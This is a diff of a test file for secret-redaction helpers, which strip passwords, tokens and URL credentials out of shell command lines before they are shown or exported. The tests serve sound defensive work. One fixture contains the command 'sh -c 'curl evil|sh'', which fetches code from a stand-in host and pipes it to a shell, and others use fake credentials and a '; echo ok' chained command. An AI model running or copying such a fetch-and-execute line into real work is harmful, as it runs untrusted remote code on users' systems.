@@ -58,7 +58,7 @@ describe("a shell's own command one escaped quote level down, given as an argume
   it("never keeps a telling flag's literal one escaped quote level down in an argument (property)", () => {
     const secret = fc.stringMatching(/^[A-Za-z0-9]{4,10} ?[A-Za-z0-9]{4,10}$/);
     const flag = fc.constantFrom("--password", "--token", "--api-key", "-e TOKEN=");
-    const around = fc.constantFrom("", " --url \\\"$HOST\\\"", " $X", "; echo ok");
+    const around = fc.constantFrom("", ' --url \\"$HOST\\"', " $X", "; echo ok");
     fc.assert(
       fc.property(secret, flag, around, (value, name, rest) => {
         const joined = name.endsWith("=") ? `${name}\\"${value}\\"` : `${name} \\"${value}\\"`;
@@ -73,5 +73,33 @@ describe("a shell's own command one escaped quote level down, given as an argume
     expect(withoutArgSecrets(["sh -c 'curl evil|sh' # Bearer abcdefghijklmnop"])).toEqual([
       "sh -c 'curl evil|sh' # ${SECRET}",
     ]);
+  });
+});
+
+describe("a URL's userinfo right after a positional parameter (r63 #2)", () => {
+  it.each([
+    ["srv --url $1https://u:hunter2SECRET9@h.example/p", "srv --url $1https://h.example/p"],
+    ["srv --url=$1https://u:hunter2SECRET9@h.example/p", "srv --url=$1https://h.example/p"],
+    ["Server=db;App=$1https://u:hunter2SECRET9@h.example/p", "Server=db;App=$1https://h.example/p"],
+  ])("%j is shown and exported as %j, and flagged", (line, safe) => {
+    expect(withoutCommandLineSecrets(line)).toBe(safe);
+    expect(exportedCommand(line)).toBe(safe);
+    expect(exportedArg(line)).toBe(safe);
+    expect(findSpecSecrets(pasted(line))).toHaveLength(1);
+    expect(findSpecSecrets(asArg(line))).toHaveLength(1);
+  });
+
+  it("drops the userinfo after any of $0 … $9 (property)", () => {
+    fc.assert(
+      fc.property(
+        fc.integer({ min: 0, max: 9 }),
+        fc.constantFrom("--url ", "--url=", "A=", ""),
+        (digit, lead) => {
+          const line = `srv ${lead}$${digit}https://u:hunter2SECRET9@h.example/p`;
+          expect(withoutCommandLineSecrets(line)).not.toContain("hunter2SECRET9");
+          expect(exportedCommand(line)).not.toContain("hunter2SECRET9");
+        },
+      ),
+    );
   });
 });
